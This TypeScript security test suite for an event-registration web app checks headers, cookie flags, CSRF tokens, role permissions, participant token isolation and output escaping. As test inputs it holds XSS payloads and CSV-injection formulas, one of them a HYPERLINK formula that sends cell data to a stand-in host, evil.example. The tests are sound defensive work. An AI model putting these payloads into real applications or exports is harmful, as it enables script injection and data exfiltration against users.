import { DEMO_EVENT_SLUG } from '@palabre/demo';
import { ROLES } from '@palabre/platform';
import { anOrganizer, TestOrganizer } from './support/organizers';
import { csvCells } from './support/csv';
import { changedTables, databaseState, Volatile } from './support/database-state';
import { declaredRoutes, routeServing } from './support/declared-routes';
import { decode } from './support/html';
import { allowedRoles, buildTenancyWorld, callAs, ORGANIZER_ROUTES, OrganizerRoute, TenancyWorld } from './support/organizer-routes';
import { aKeynote, aWorkshop, ProgramApi } from './support/program';
import { fillRoute, registeredRoutes } from './support/registered-routes';
import { aParticipant, anOpenEvent, aQuestion, aRegistrationWorld } from './support/registration';
import { cookieFaults, securityHeaderFaults } from './support/security-headers';
import { json, suiteApp, TestApp } from './support/test-app';
import { SetCookie, signedIn, WebClient } from './support/web-client';

/** A value for each path parameter, so that a walk reaches real pages of the demo forum where it can. */
async function walkValues(t: TestApp): Promise<(param: string) => string> {
  const home = await (await t.fetch('/', { headers: { accept: 'text/html' } })).text();
  const asset = /\/assets\/([\w.-]+)/.exec(home)?.[1] ?? 'x';
  return (param) => ({ slug: DEMO_EVENT_SLUG, number: '1', file: asset, year: '2026' })[param] ?? 'x';
}

/** Every route the app serves, called as an anonymous client would: each answer (page, JSON, problem, asset, redirect). */
async function everyAnswer(t: TestApp): Promise<{ what: string; res: Response }[]> {
  const value = await walkValues(t);
  const answers: { what: string; res: Response }[] = [];
  for (const route of registeredRoutes(t.app)) {
    if (route.method === 'HEAD' || route.method === 'OPTIONS') continue;
    const path = fillRoute(route.path, value);
    const api = path.startsWith('/api/');
    const body = route.method === 'GET' ? undefined : api ? '{}' : '';
    const res = await t.fetch(path, {
      method: route.method,
      redirect: 'manual',
      headers: {
        accept: api ? 'application/json' : 'text/html',
        ...(body === undefined ? {} : { 'content-type': api ? 'application/json' : 'application/x-www-form-urlencoded' }),
      },
      body,
    });
    await res.arrayBuffer();
    answers.push({ what: `${route.method} ${path} → ${res.status} ${res.headers.get('content-type') ?? ''}`, res });
  }
  // What the router and the parsers refuse before any controller: no route, unreadable JSON, a body too large, a wrong type.
  const refused = [
    ['GET', '/nulle-part', undefined, 'text/html'],
    ['GET', '/api/v1/nulle-part', undefined, 'application/json'],
    ['POST', '/api/v1/auth/token', '{"email":', 'application/json'],
    ['POST', '/api/v1/auth/token', `{"email":"${'x'.repeat(2 * 1024 * 1024)}"}`, 'application/json'],
    ['POST', '/api/v1/auth/token', 'email=x', 'text/plain'],
  ] as const;
  for (const [method, path, body, type] of refused) {
    const res = await t.fetch(path, { method, headers: { accept: type, ...(body ? { 'content-type': type } : {}) }, body });
    await res.arrayBuffer();
    answers.push({ what: `${method} ${path} (refused) → ${res.status}`, res });
  }
  return answers;
}

describe('security headers on every answer, and cookie flags', () => {
  describe.each([
    ['over plain http, outside production (as in development)', {}, false],
    ['behind an https PUBLIC_URL', { PUBLIC_URL: 'https://palabre.example.org' }, true],
  ] as const)('%s', (_, env, overHttps) => {
    const t = suiteApp({ SEED_DEMO: 'true', ...env });

    it(`every route's answer — page, JSON, problem, asset, redirect, refusal — carries the headers${overHttps ? ', HSTS included' : ', without HSTS'}`, async () => {
      const answers = await everyAnswer(t);
      const kinds = new Set(answers.map(({ res }) => `${Math.floor(res.status / 100)}xx ${(res.headers.get('content-type') ?? '').split(';')[0]}`));
      // The walk met every kind of answer (so the check below is not vacuous).
      for (const kind of ['2xx text/html', '2xx application/json', '2xx text/css', '3xx ', '4xx application/problem+json', '4xx text/html']) {
        expect(kinds).toContain(kind);
      }
      const faults = answers.flatMap(({ what, res }) => securityHeaderFaults(res.headers, overHttps).map((f) => `${what}: ${f}`));
      expect(faults).toEqual([]);
    }, 120_000);

    it(`sets every cookie HttpOnly, SameSite, for the whole site${overHttps ? ', Secure' : ''}`, async () => {
      const browser = new WebClient(t);
      const seen: SetCookie[] = [];
      const visit = async (path: string, form?: Record<string, string>) => {
        await (form ? browser.post(path, form) : browser.get(path));
        seen.push(...browser.lastSetCookies);
      };
      await visit('/?lang=en'); // the language cookie
      await visit('/admin/sign-in'); // the form token of the pages before sign-in
      const o = await anOrganizer(t);
      await visit('/admin/sign-in', { email: o.email, password: o.password }); // the session
      await visit('/admin/sign-out', {}); // the session, cleared
      expect(seen.map((c) => c.name).sort()).toEqual(
        expect.arrayContaining(['lang', ...['palabre_form', 'palabre_session'].map((c) => (overHttps ? `__Host-${c}` : c))]),
      );
      expect(seen.flatMap((c) => cookieFaults(c, overHttps))).toEqual([]);
    });
  });
});

/** What any request may touch: the abuse counters count refused requests too; a token or a session notes its last use. */
const VOLATILE: Volatile = { tables: ['rate_limit_counters'], columns: ['last_used_at', 'last_seen_at'] };

/** The back-office forms: every POST a browser signed in (or signing in) makes outside the API. */
const BACK_OFFICE = /^\/(admin|intervenant|auth)\//;

describe('the organizer back-office: roles and CSRF', () => {
  const t = suiteApp();
  let world: TenancyWorld;
  /** Another session of A's owner, whose form token is valid — but not for the owner's first browser. */
  let elsewhere: WebClient;
  beforeAll(async () => {
    world = await buildTenancyWorld(t);
    elsewhere = await signedIn(t, world.a.owner.email, world.a.owner.password);
    await elsewhere.get('/admin/account');
  }, 120_000);

  /**
   * The tenancy test proves the status (403) of each role on each route; here, for every write
   * of the organizer table (API and page forms), that the refused calls of all the roles without
   * the permission stored nothing, on a fixture made once for them.
   */
  it('refuses every write to each role without its permission (403), and none of them stores anything', async () => {
    const wrong: string[] = [];
    for (const route of ORGANIZER_ROUTES.filter((r) => r.method !== 'GET')) {
      const forbidden = ROLES.filter((role) => !allowedRoles(route.permission).includes(role));
      if (forbidden.length === 0) continue;
      const fixture = route.prepare ? await route.prepare(world) : {};
      const prepared: OrganizerRoute = {
        ...route,
        prepare: undefined,
        path: (w) => route.path(w, fixture),
        body: route.body && ((w) => route.body!(w, fixture)),
      };
      const before = await databaseState(t, VOLATILE);
      for (const role of forbidden) {
        const res = await callAs(world, world.a[role], prepared);
        if (res.status !== 403) wrong.push(`${route.name} as ${role}: ${res.status}`);
      }
      const changed = changedTables(before, await databaseState(t, VOLATILE));
      if (changed.length > 0) wrong.push(`${route.name}: ${forbidden.join(', ')} changed ${changed.join(', ')}`);
    }
    expect(wrong).toEqual([]);
  }, 600_000);

  /** Each form with its row of the organizer table when it has one (a real fixture and body), else its path with made-up ids. */
  function forms(): { path: string; row?: OrganizerRoute }[] {
    const declared = declaredRoutes(t.app);
    const placeholder = new Proxy({}, { get: () => 'placeholder' }) as Record<string, string>;
    const rows = new Map(
      ORGANIZER_ROUTES.filter((r) => r.kind === 'page' && r.method === 'POST').map((r) => [
        routeServing(declared, 'POST', r.path(world, placeholder))?.path,
        r,
      ]),
    );
    return registeredRoutes(t.app)
      .filter((r) => r.method === 'POST' && BACK_OFFICE.test(r.path))
      .map((r) => ({ path: r.path, row: rows.get(r.path) }));
  }

  /** Posts a form as A's owner's browser with `token` as its `_csrf` (none when undefined), and says what the database kept of it. */
  async function forge(form: { path: string; row?: OrganizerRoute }, token: string | undefined) {
    const browser = world.browsers.get(world.a.owner)!;
    const fixture = form.row?.prepare ? await form.row.prepare(world) : {};
    const path = form.row ? form.row.path(world, fixture) : fillRoute(form.path, () => '00000000-0000-4000-8000-000000000000');
    const fields = Object.fromEntries(Object.entries(form.row?.body?.(world, fixture) ?? {}).map(([k, v]) => [k, String(v)]));
    const before = await databaseState(t, VOLATILE);
    let res: Response;
    if (form.row?.upload) {
      const multipart = new FormData();
      if (token) multipart.set('_csrf', token);
      multipart.set(form.row.upload.field, new Blob([await form.row.upload.bytes()], { type: form.row.upload.type }), 'fichier');
      const cookie = [...browser.cookies].map(([k, v]) => `${k}=${encodeURIComponent(v)}`).join('; ');
      res = await t.fetch(path, { method: 'POST', headers: { cookie, accept: 'text/html' }, body: multipart, redirect: 'manual' });
    } else {
      res = await browser.request(path, { method: 'POST', form: { ...fields, ...(token ? { _csrf: token } : {}) } });
    }
    const text = await res.text();
    return {
      what: `POST ${path}`,
      status: res.status,
      expired: text.includes('Formulaire expiré'),
      changed: changedTables(before, await databaseState(t, VOLATILE)),
    };
  }

  it('walks every form, most with the fixture and body of the tenancy table', () => {
    const all = forms();
    expect(all.length).toBeGreaterThan(50);
    // The ones without a row need no permission of an organization: the account, the speakers' space, signing in and out.
    expect(all.filter((f) => !f.row).map((f) => f.path)).toEqual(
      expect.arrayContaining(['/admin/sign-in', '/admin/sign-out', '/admin/account/password', '/intervenant/profil']),
    );
    expect(all.filter((f) => !f.row).every((f) => !f.path.startsWith('/admin/o/'))).toBe(true);
  });

  it('sees what a form with its own token stores (so « stores nothing » below means something)', async () => {
    const invite = forms().find((f) => f.row?.name === 'invite form')!;
    await world.browsers.get(world.a.owner)!.get('/admin/account');
    const answer = await forge(invite, world.browsers.get(world.a.owner)!.csrf);
    expect(answer).toMatchObject({ status: 303, changed: expect.arrayContaining(['invitations']) });
  });

  it.each([
    ['without the form token', () => undefined],
    ['with the token of another session', () => elsewhere.csrf],
    ['with a made-up token', () => 'x'.repeat(43)],
  ])(
    'refuses every form %s (403, « Formulaire expiré »), and stores nothing',
    async (_, token) => {
      const answers = [];
      for (const form of forms()) answers.push(await forge(form, token()));
      expect(answers.filter((a) => a.status !== 403 || !a.expired || a.changed.length > 0)).toEqual([]);
      // The owner is still signed in (sign-out and « sign out everywhere » were refused too).
      expect((await world.browsers.get(world.a.owner)!.get('/admin/account')).status).toBe(200);
    },
    300_000,
  );
});

describe('a participant’s token opens only its own registration', () => {
  let world: Awaited<ReturnType<typeof aRegistrationWorld>>;
  let p: ProgramApi;
  let workshopId: string;
  let keynoteId: string;
  const people: Record<'awa' | 'binta', { token: string; reference: string; body: Record<string, unknown> }> = {} as never;
  beforeAll(async () => {
    world = await aRegistrationWorld(`Organisation ${Date.now()}`);
    p = await ProgramApi.newEvent(world.t, world.owner);
    workshopId = (await p.session(aWorkshop().titled('Atelier CV').on(1, '10:00', '11:00').with({ capacity: 10 }))).id;
    keynoteId = (await p.session(aKeynote().titled('Ouverture').on(1, '09:00', '10:00'))).id;
    expect((await p.release()).status).toBe(201);
    await anOpenEvent(p, { capacity: 10, confirmEmail: false });
    for (const [who, firstName] of [
      ['awa', 'Awa'],
      ['binta', 'Binta'],
    ] as const) {
      const body = aParticipant(who, { firstName, lastName: `Nom-${who}`, email: `${who}-${Date.now()}@example.ml` });
      const created = await json<{ manageToken: string; reference: string }>(await world.people.register(p.slug, body));
      people[who] = { token: created.manageToken, reference: created.reference, body };
    }
    expect((await world.people.call('PUT', people.binta.token, '/sessions', { sessionIds: [workshopId] })).status).toBe(200);
    await checkInAtTheDoor(world.t, world.owner, p.slug, people.binta.token, workshopId);
  }, 120_000);
  afterAll(() => world?.t.close());

  /** Every route the app serves with a participant's token in its path, as the participant's client calls it (a body where it takes one). */
  function tokenRoutes(token: string): { method: string; path: string; body?: string; type?: string }[] {
    const value = (param: string) => ({ token, sessionId: keynoteId })[param] ?? 'x';
    return registeredRoutes(world.t.app)
      .filter((r) => r.path.includes(':token') && r.method !== 'HEAD')
      .map((r) => {
        const path = fillRoute(r.path, value);
        if (r.method === 'GET' || r.method === 'DELETE') return { method: r.method, path };
        if (path.startsWith('/api/')) {
          const body = r.path.endsWith('/sessions') ? { sessionIds: [workshopId] } : r.method === 'PATCH' ? { firstName: 'Pirate' } : {};
          return { method: r.method, path, body: JSON.stringify(body), type: 'application/json' };
        }
        return {
          method: r.method,
          path,
          body: new URLSearchParams({ firstName: 'Pirate', sessionIds: workshopId }).toString(),
          type: 'application/x-www-form-urlencoded',
        };
      });
  }

  const call = (route: { method: string; path: string; body?: string; type?: string }) =>
    world.t.fetch(route.path, {
      method: route.method,
      redirect: 'manual',
      headers: { accept: route.path.startsWith('/api/') ? 'application/json' : 'text/html', ...(route.type ? { 'content-type': route.type } : {}) },
      body: route.body,
    });

  it('walks every route that takes a token (API and pages: manage, confirm, details, workshops, cancel, erase, ticket, agenda, data, certificates)', () => {
    const paths = tokenRoutes('T').map((r) => `${r.method} ${r.path}`);
    expect(paths.length).toBeGreaterThanOrEqual(19);
    expect(paths).toEqual(expect.arrayContaining(['GET /api/v1/registrations/T/ticket.svg', 'POST /r/T/annuler', 'GET /r/T/attestations']));
  });

  it.each([
    ['a guessed token', () => 'a'.repeat(43)],
    ['another participant’s token with one character changed', () => people.binta.token.slice(0, -1) + (people.binta.token.endsWith('A') ? 'B' : 'A')],
    ['another participant’s reference', () => people.binta.reference],
  ])('answers 404 to %s on every route, and changes nothing', async (_, token) => {
    const before = await databaseState(world.t, VOLATILE);
    const wrong = [];
    for (const route of tokenRoutes(token())) {
      const res = await call(route);
      if (res.status !== 404) wrong.push(`${route.method} ${route.path} → ${res.status}`);
    }
    expect(wrong).toEqual([]);
    expect(changedTables(before, await databaseState(world.t, VOLATILE))).toEqual([]);
  });

  it('shows nothing of another participant on any of one’s own routes that read', async () => {
    const binta = people.binta;
    const marks = [binta.reference, binta.token, String(binta.body.email), String(binta.body.lastName)];
    const leaks = [];
    for (const route of tokenRoutes(people.awa.token).filter((r) => r.method === 'GET')) {
      const text = await (await call(route)).text();
      leaks.push(...marks.filter((m) => text.includes(m)).map((m) => `${route.path} shows ${m}`));
    }
    expect(leaks).toEqual([]);
  });

  it('gives no certificate of a session the participant was not at, whoever was', async () => {
    expect((await world.t.fetch(`/r/${people.binta.token}/attestations/${workshopId}`, { headers: { accept: 'text/html' } })).status).toBe(200);
    for (const sessionId of [workshopId, keynoteId]) {
      expect((await world.t.fetch(`/r/${people.awa.token}/attestations/${sessionId}`, { headers: { accept: 'text/html' } })).status).toBe(404);
    }
  });

  it('is no key to the organizer API: a manage token as a bearer is refused (401)', async () => {
    const bearer = { authorization: `Bearer ${people.awa.token}` };
    for (const path of [
      '/api/v1/organizations',
      `/api/v1/events/${p.slug}/registrations`,
      `/api/v1/events/${p.slug}/registrations/${people.binta.reference}`,
      '/api/v1/me/tokens',
    ]) {
      expect([path, (await world.t.fetch(path, { headers: bearer })).status]).toEqual([path, 401]);
    }
  });
});

/** Checks a registration in at a session's door (as the desk would), so that it has a certificate of attendance. */
async function checkInAtTheDoor(t: TestApp, organizer: TestOrganizer, slug: string, token: string, sessionId: string): Promise<void> {
  const { ticketCode } = await json<{ ticketCode: string }>(await t.fetch(`/api/v1/registrations/${token}`));
  const res = await t.fetch(`/api/v1/events/${slug}/check-ins`, {
    method: 'POST',
    headers: organizer.headers,
    body: JSON.stringify({ code: ticketCode, sessionId }),
  });
  expect((await json<{ result: string }>(res)).result).toBe('welcome');
}

const SCRIPT = '<script>alert(1)</script>';
const IMG = '"><img src=x onerror=alert(1)>';
/** Either payload, live: markup a browser would run. Escaped, it reads `&lt;script>` or `&quot;&gt;&lt;img`. */
const LIVE_MARKUP = /<script>alert\(1\)|<img src=x onerror/i;
/** What a spreadsheet would read as a formula. */
const FORMULA = /^[=+\-@\t\r]/;

describe('user-provided text is text everywhere: pages, CSV, emails', () => {
  let world: Awaited<ReturnType<typeof aRegistrationWorld>>;
  let p: ProgramApi;
  let browser: WebClient;
  const ids: Record<string, string> = {};
  beforeAll(async () => {
    world = await aRegistrationWorld(`Organisation ${Date.now()}`);
    p = await ProgramApi.newEvent(world.t, world.owner);
    ids.speaker = await p.speaker(`Awa ${SCRIPT}`, { bio: { fr: `Bio ${IMG}` } });
    const session = await p.session(aWorkshop().titled(`Atelier ${SCRIPT}`).on(1, '10:00', '11:00').with({ capacity: 10 }).withSpeakers(ids.speaker));
    ids.session = session.id;
    ids.number = String(session.number);
    expect((await p.release()).status).toBe(201);
    await anOpenEvent(p, { capacity: 10, confirmEmail: false, questions: [aQuestion('attentes', 'text', `Attentes ${IMG}`)] });
    const evil = aParticipant('evil', {
      firstName: SCRIPT,
      lastName: IMG,
      organization: `ONG ${IMG}`,
      region: `Kayes ${SCRIPT}`,
      answers: { attentes: SCRIPT },
      sessionIds: [ids.session],
    });
    const created = await json<{ manageToken: string; reference: string }>(await world.people.register(p.slug, evil));
    ids.token = created.manageToken;
    ids.reference = created.reference;
    // And one whose every field is a formula, for the exports.
    const formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-1+1', '@SUM(A1)', '\t=1', '\r=1'];
    const formula = aParticipant('formula', {
      firstName: formulas[0],
      lastName: formulas[1],
      organization: formulas[2],
      region: formulas[3],
      answers: { attentes: formulas[4] },
      sessionIds: [ids.session],
    });
    expect((await world.people.register(p.slug, formula)).status).toBe(201);
    expect((await world.people.register(p.slug, aParticipant('cr', { firstName: formulas[5], lastName: formulas[5] }))).status).toBe(201);
    await checkInAtTheDoor(world.t, world.owner, p.slug, ids.token, ids.session);
    browser = await signedIn(world.t, world.owner.email, world.owner.password);
  }, 120_000);
  afterAll(() => world?.t.close());

  /** A value for each path parameter: the event, its organization, the workshop, its speaker, the registrant's token and reference. */
  function fill(path: string): string {
    return fillRoute(path, (param) => {
      if (param === 'id') return /speakers\/:id/.test(path) ? ids.speaker : /sessions\/:id/.test(path) ? ids.session : 'x';
      return (
        { slug: p.slug, orgSlug: world.owner.organizationSlug, token: ids.token, reference: ids.reference, number: ids.number, sessionId: ids.session }[
          param
        ] ?? 'x'
      );
    });
  }

  it('never lets them out as markup on any page, and shows them as text on the pages that show them', async () => {
    const live: string[] = [];
    const shown: string[] = [];
    for (const route of registeredRoutes(world.t.app).filter((r) => r.method === 'GET')) {
      const path = fill(route.path);
      const res = await browser.get(path);
      const type = res.headers.get('content-type') ?? '';
      if (!/html|svg/.test(type)) continue;
      const body = await res.text();
      if (LIVE_MARKUP.test(body)) live.push(path);
      if (decode(body).includes(SCRIPT) || decode(body).includes(IMG)) shown.push(route.path);
    }
    expect(live).toEqual([]);
    const event = '/admin/o/:orgSlug/events/:slug';
    expect(shown).toEqual(
      expect.arrayContaining([
        // public: the programme, the session, the speakers, the form (its question)
        '/e/:slug/programme',
        '/e/:slug/programme/:number',
        '/e/:slug/intervenants',
        '/e/:slug/inscription',
        // the participant's own: the manage page, the certificates
        '/r/:token',
        '/r/:token/attestations',
        '/r/:token/attestations/:sessionId',
        // back-office: registrations, desk, program, speakers, figures
        `${event}/registrations`,
        `${event}/registrations/:reference`,
        `${event}/accueil`,
        `${event}/program`,
        `${event}/program/sessions/:id`,
        `${event}/speakers`,
        `${event}/speakers/:id`,
        `${event}/stats`,
        `${event}/stats/report`,
      ]),
    );
  }, 120_000);

  it('exports them as data: every CSV cell a spreadsheet would run is neutralized', async () => {
    const exports = registeredRoutes(world.t.app).filter((r) => r.method === 'GET' && r.path.endsWith('.csv'));
    expect(exports.map((r) => r.path).sort()).toEqual([
      '/api/v1/events/:slug/impact.csv',
      '/api/v1/events/:slug/registrations.csv',
      '/api/v1/events/:slug/stats.csv',
    ]);
    const formulas: string[] = [];
    const texts: Record<string, string> = {};
    for (const route of exports) {
      const res = await world.t.fetch(fill(route.path), { headers: { authorization: world.owner.headers.authorization } });
      expect([route.path, res.status]).toEqual([route.path, 200]);
      texts[route.path] = await res.text();
      formulas.push(
        ...csvCells(texts[route.path]).flatMap((row) => row.filter((cell) => FORMULA.test(cell)).map((cell) => `${route.path}: ${JSON.stringify(cell)}`)),
      );
    }
    expect(formulas).toEqual([]);
    const registrations = csvCells(texts['/api/v1/events/:slug/registrations.csv']).flat();
    // Shown as typed, with a quote before a formula (a tab or a carriage return first is trimmed at the input, the formula after it neutralized).
    expect(registrations).toEqual(expect.arrayContaining([SCRIPT, IMG, `'=HYPERLINK("http://evil.example/?"&A1,"x")`, "'+1+1", "'-1+1", "'@SUM(A1)", "'=1"]));
    expect(csvCells(texts['/api/v1/events/:slug/stats.csv']).flat()).toEqual(expect.arrayContaining([`Kayes ${SCRIPT}`, "'@SUM(A1)"]));
  });

  it('mails them as text: no live markup in any message, the name escaped in the HTML part and plain in the text part', async () => {
    const mails = await world.people.delivered(3, 0);
    const toEvil = mails.filter((m) => m.envelopeTo.includes('awaevil@example.ml'));
    expect(toEvil.length).toBeGreaterThan(0);
    for (const mail of mails) expect([mail.parsed.subject, LIVE_MARKUP.test(String(mail.parsed.html))]).toEqual([mail.parsed.subject, false]);
    for (const mail of toEvil) {
      expect(decode(String(mail.parsed.html))).toContain(SCRIPT);
      expect(String(mail.parsed.text)).toContain(SCRIPT);
    }
  });
});
